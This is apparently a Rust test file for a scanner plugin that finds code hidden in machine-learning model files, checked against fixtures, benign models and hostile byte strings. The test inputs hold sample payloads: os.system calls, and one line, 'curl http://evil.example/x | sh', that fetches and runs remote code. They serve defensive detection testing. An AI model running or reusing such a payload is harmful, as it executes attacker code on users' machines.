//! The analyser on its own fixtures, on benign models and on hostile bytes.

use std::path::{Path, PathBuf};

use modelaudit_plugin::testing::{Memory, Report, conformance, scan_artifact};
use modelaudit_plugin_embedded_code::EmbeddedCode;

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures")
}

fn scan(name: &str, bytes: &[u8]) -> Report {
    scan_artifact::<EmbeddedCode>(Memory::new(name, bytes), "").0
}

#[test]
fn own_fixtures() {
    let folder = fixtures().join("embedded-code");
    let labels = std::fs::read_to_string(folder.join("labels.csv")).unwrap();
    let mut checked = 0;
    for line in labels.lines().skip(1) {
        let [file, _, verdict, rules] = line.split(',').collect::<Vec<_>>()[..] else { panic!("{line}") };
        let report = scan(file, &std::fs::read(folder.join(file)).unwrap());
        assert!(report.incomplete.is_empty(), "{file}: {report:?}");
        let found: Vec<&str> = report.findings.iter().map(|finding| finding.rule).collect();
        assert_eq!(found.join(" "), rules, "{file}: {report:#?}");
        assert_eq!(verdict, if found.is_empty() { "clean" } else { "warning" });
        checked += 1;
    }
    assert!(checked > 10, "{checked} fixtures");
}

#[test]
fn one_text_is_one_finding_at_its_place() {
    let mut bytes = vec![0x80u8; 100];
    bytes.extend_from_slice(b"import os\nos.system('id')\n__import__('os').system('id')");
    bytes.extend_from_slice(&[0x80; 100]);
    let report = scan("x.bin", &bytes);
    assert_eq!(report.findings.len(), 1, "{report:#?}");
    assert_eq!(report.findings[0].at.unwrap().offset, 100);
}

#[test]
fn texts_and_judged_formats_are_left_alone() {
    let payload = b"import os\nos.system('curl http://evil.example/x | sh')\n";
    for head in [b"".as_slice(), b"{", b"PK\x03\x04\x14\0", b"\x80\x04\x95\0\0", b"GGUF\x03\0\0\0"] {
        let bytes = [head, payload, b"\0"].concat();
        let bytes = if head.is_empty() { payload.to_vec() } else { bytes };
        assert_eq!(scan("x.bin", &bytes), Report::default(), "{head:?}");
    }
}

#[test]
fn benign_models_are_silent() {
    let mut files = Vec::new();
    for folder in std::fs::read_dir(fixtures().join("corpus")).unwrap().flatten() {
        if folder.file_name().to_string_lossy().starts_with("benign") {
            walk(&folder.path(), &mut files);
        }
    }
    walk(&fixtures().join("real"), &mut files);
    assert!(files.len() > 60, "{} files", files.len());
    for file in files {
        let bytes = std::fs::read(&file).unwrap();
        let report = scan(&file.file_name().unwrap().to_string_lossy(), &bytes);
        assert_eq!(report, Report::default(), "{}", file.display());
    }
}

fn walk(folder: &Path, files: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(folder).unwrap().flatten() {
        if entry.path().is_dir() {
            walk(&entry.path(), files);
        } else {
            files.push(entry.path());
        }
    }
}

#[test]
fn holds_the_contract() {
    let small =
        b"\xff\x80\0import os\nos.system('id')\0\xff{\"x\": \"exec(1)\\n\"}\xfe__import__('os').system('id')\xff";
    conformance::<EmbeddedCode>("small.bin", small, "");
    let tensor = std::fs::read(fixtures().join("embedded-code/bad/tensor.safetensors")).unwrap();
    conformance::<EmbeddedCode>("bad/tensor.safetensors", &tensor, "");
}

/// What the other plugins call clean holds no code that acts.
#[test]
fn clean_fixtures_of_others_are_silent() {
    let mut checked = 0;
    for folder in std::fs::read_dir(fixtures()).unwrap().flatten() {
        let Ok(labels) = std::fs::read_to_string(folder.path().join("labels.csv")) else { continue };
        for line in labels.lines().skip(1) {
            let fields: Vec<&str> = line.split(',').collect();
            let ([file, ..], Some(verdict)) = (fields.as_slice(), fields.get(2)) else { continue };
            if !matches!(*verdict, "clean" | "info") {
                continue;
            }
            let Ok(bytes) = std::fs::read(folder.path().join(file)) else { continue };
            assert_eq!(scan(file, &bytes), Report::default(), "{}/{file}", folder.path().display());
            checked += 1;
        }
    }
    assert!(checked > 300, "{checked} fixtures");
}
